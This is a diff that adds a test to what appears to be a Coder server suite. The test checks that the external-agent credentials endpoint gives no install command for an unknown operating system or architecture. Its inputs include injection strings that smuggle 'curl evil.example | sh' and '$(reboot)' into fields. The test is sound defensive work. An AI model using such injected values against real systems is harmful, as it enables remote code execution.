@@ -70,6 +70,21 @@ test('gives the credentials of an external agent only to people who may connect'
   }
 });
 
+test('writes no command for an operating system or architecture that is not known', async () => {
+  for (const [name, machine] of [
+    ['os', { operatingSystem: 'linux"; curl evil.example | sh; "' }],
+    ['arch', { architecture: 'amd64$(reboot)' }],
+    ['pair', { operatingSystem: 'windows', architecture: 'armv7' }],
+  ] as const) {
+    const auth = { case: 'token', value: crypto.randomUUID() };
+    const { id } = await built(name, 'coder_external_agent', { auth, ...machine });
+    const { status, body } = await credentials(id, 'main');
+    assert.equal(status, 412, JSON.stringify(body));
+    assert.match(body.message, /^The agent is for .*, and no executable exists for it\.$/);
+    assert.equal(body.command, undefined);
+  }
+});
+
 test('a template version says whether its workspaces have external agents', async () => {
   const look = async () =>
     (await server.api<TemplateVersion>('GET', `/templateversions/${template.active_version_id}`)).body;
